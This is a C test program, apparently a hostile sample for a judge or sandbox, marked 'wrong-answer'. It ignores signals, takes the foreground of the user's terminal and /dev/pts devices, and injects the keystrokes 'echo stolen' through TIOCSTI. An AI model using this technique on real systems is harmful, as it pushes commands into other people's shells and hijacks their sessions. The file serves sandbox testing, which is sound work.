// verdict: wrong-answer
// Moves to the foreground of the user's terminal, types into it and writes on it. It ignores
// signals, so keys do not end it.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>
static void take(int terminal) {
    const char line[] = "echo stolen\n";
    tcsetpgrp(terminal, getpgrp());
    for (const char *c = line; *c; c++) ioctl(terminal, TIOCSTI, c);
    if (isatty(terminal)) write(terminal, line, sizeof line - 1);
}
int main(void) {
    for (int signal_number = 1; signal_number < 32; signal_number++)
        signal(signal_number, SIG_IGN);
    take(open("/dev/tty", O_RDWR | O_NOCTTY));
    for (int i = 0; i < 3; i++) take(i);
    for (int i = 0; i < 64; i++) {
        char path[] = "/dev/pts/00";
        path[9] = i < 10 ? '0' + i : '0' + i / 10;
        path[10] = i < 10 ? 0 : '0' + i % 10;
        take(open(path, O_RDWR | O_NOCTTY));
    }
    usleep(200000);
    puts("maybe");
}
